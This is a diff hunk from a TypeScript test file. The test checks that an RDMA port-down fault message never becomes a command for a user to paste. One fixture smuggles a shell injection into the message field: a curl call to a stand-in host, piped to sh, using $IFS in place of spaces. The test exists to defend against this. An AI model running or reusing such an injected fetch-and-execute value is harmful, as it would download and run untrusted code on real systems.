@@ -27,7 +27,7 @@ test("the agent's words are told as its own, hint and fault too", () => {
 })
 
 test('no hint of a fault at the server is a command to paste here', () => {
-  const hostile = { op: 'x', errno: 0, message: '(eth0;curl${IFS}x.example/a|sh; is down)' }
+  const hostile = { op: 'x', errno: 0, message: '(eth0;curl$IFS.x.example/a|sh; is down)' }
   const down = { op: 'x', errno: 0, message: 'rxe0 port 1 is down (eth0 is down)' }
   for (const words of [hostile, down]) {
     const fault: NativeFault = { code: 'RDMA_PORT_DOWN', ...words }
